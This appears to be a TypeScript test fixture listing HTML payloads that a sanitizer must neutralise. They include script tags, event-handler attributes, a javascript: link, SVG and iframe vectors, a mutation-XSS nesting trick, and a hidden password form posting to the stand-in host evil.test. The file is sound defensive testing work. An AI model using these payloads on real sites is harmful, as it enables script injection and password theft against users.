/** Hostile bodies; after cleaning, each still shows `Readable`. A script that runs sets `window.hacked`. */
export const hostileBodies: readonly string[] = [
  '<p>Readable</p><script>window.hacked = 1</script>',
  '<p>Readable</p><img src="x" onerror="window.hacked = 1">',
  '<p><a href="javascript:window.hacked=1">Readable</a></p>',
  '<p>Readable</p><svg onload="window.hacked = 1"><animate onbegin="window.hacked = 1" attributeName="x" dur="1s"></svg>',
  '<p>Readable</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  '<p>Readable</p><iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<p style="position:fixed;inset:0;background:red">Readable</p><style>body{display:none}</style><form action="https://evil.test/"><input name="password"></form>',
]
